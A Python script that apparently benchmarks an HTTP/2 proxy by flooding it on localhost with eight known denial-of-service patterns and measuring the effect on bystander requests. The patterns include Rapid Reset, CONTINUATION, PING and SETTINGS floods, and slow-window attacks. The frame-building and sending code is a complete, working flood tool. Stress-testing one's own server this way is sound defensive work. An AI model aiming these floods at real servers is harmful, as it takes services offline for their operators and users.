#!/usr/bin/env python3
"""Our own floods of HTTP/2, at a printed rate, while bystanders make requests.

    floods.py [KIND...]
    floods.py attack KIND PORT      the attacker alone, until SIGTERM
"""

import selectors
import signal
import socket
import struct
import subprocess
import sys
import time

import kit

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
GET = b"\x82\x86\x84\x41\x01t"
POST = b"\x83" + GET[1:]
BIG = b"\x82\x86\x04\x04/big\x41\x01t"
CONNECTIONS = 16


def frame(kind, flags, stream, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


OPENING = PREFACE + frame(SETTINGS, 0, 0)
CLOSED = PREFACE + frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 0))


def each(count, make):
    return b"".join(make(i) for i in range(1, 2 * count, 2))


# What one connection sends, the frames in it that hurt, and whether it is kept open behind that.
FLOODS = {
    "rapid reset": (lambda: OPENING + each(2000, lambda i: frame(HEADERS, 5, i, GET) + frame(RST_STREAM, 0, i, b"\0\0\0\x08")), 2000, False),
    "made-you-reset": (lambda: OPENING + each(2000, lambda i: frame(HEADERS, 4, i, POST) + frame(WINDOW_UPDATE, 0, i, b"\x7f\xff\xff\xff")), 2000, False),
    "CONTINUATION": (lambda: OPENING + frame(HEADERS, 0, 1, GET) + frame(CONTINUATION, 0, 1, b"\0\1a\1b") * 5000, 5000, False),
    "PING": (lambda: OPENING + frame(PING, 0, 0, b"12345678") * 5000, 5000, False),
    "SETTINGS": (lambda: OPENING + frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 1000)) * 5000, 5000, False),
    "empty frames": (lambda: OPENING + frame(HEADERS, 4, 1, POST) + frame(DATA, 0, 1) * 5000, 5000, False),
    "zero window": (lambda: CLOSED + each(50, lambda i: frame(HEADERS, 5, i, BIG)), 50, True),
    "one-byte DATA": (lambda: OPENING + frame(HEADERS, 4, 1, POST) + frame(DATA, 0, 1, b"x") * 60000, 60000, True),
}


class Attacker:
    """Some connections that send their flood as fast as it is taken; one that is ended is made anew."""

    def __init__(self, kind, port):
        make, self.frames, self.kept = FLOODS[kind]
        self.data = make()
        self.port = port
        self.selector = selectors.DefaultSelector()
        self.sent = self.connections = 0
        self.begin = time.monotonic()
        self.over = False
        signal.signal(signal.SIGTERM, self.stop)

    def stop(self, *_):
        self.over = True

    def open(self):
        while True:
            try:
                sock = socket.create_connection(("127.0.0.1", self.port), 5)
                break
            except OSError:
                time.sleep(0.01)  # The proxy's backlog, or this machine's ports, are used up.
        sock.setblocking(False)
        self.connections += 1
        self.selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, [0])

    def close(self, key):
        self.sent += key.data[0]
        self.selector.unregister(key.fileobj)
        key.fileobj.close()
        self.open()

    def step(self, key, mask):
        over = False
        try:
            if mask & selectors.EVENT_READ:
                over = not key.fileobj.recv(65536)
            if mask & selectors.EVENT_WRITE and not over:
                key.data[0] += key.fileobj.send(self.data[key.data[0]:key.data[0] + 65536])
                if key.data[0] == len(self.data):
                    over = not self.kept
                    self.selector.modify(key.fileobj, selectors.EVENT_READ, key.data)
        except BlockingIOError:
            pass
        except OSError:
            over = True
        if over:
            self.close(key)

    def run(self):
        for _ in range(CONNECTIONS):
            self.open()
        while not self.over:
            for key, mask in self.selector.select(0.1):
                self.step(key, mask)
        self.sent += sum(key.data[0] for key in self.selector.get_map().values())
        took = time.monotonic() - self.begin
        print(f"{self.sent / len(self.data) * self.frames / took:.0f} frames/s on {self.connections / took:.0f} connections/s, "
              f"{self.sent / took / 1e6:.1f} MB/s")


def run(kinds=tuple(FLOODS)):
    from bystanders import Stage, measure
    with Stage() as stage:
        return [measure(stage, f"flood: {kind}", lambda port, kind=kind: subprocess.Popen(
            [sys.executable, __file__, "attack", kind, str(port)], stdout=subprocess.PIPE)) for kind in kinds]


if __name__ == "__main__":
    if sys.argv[1:2] == ["attack"]:
        Attacker(sys.argv[2], int(sys.argv[3])).run()
    else:
        chosen = sys.argv[1:]
        kit.main(lambda: run(chosen or tuple(FLOODS)))
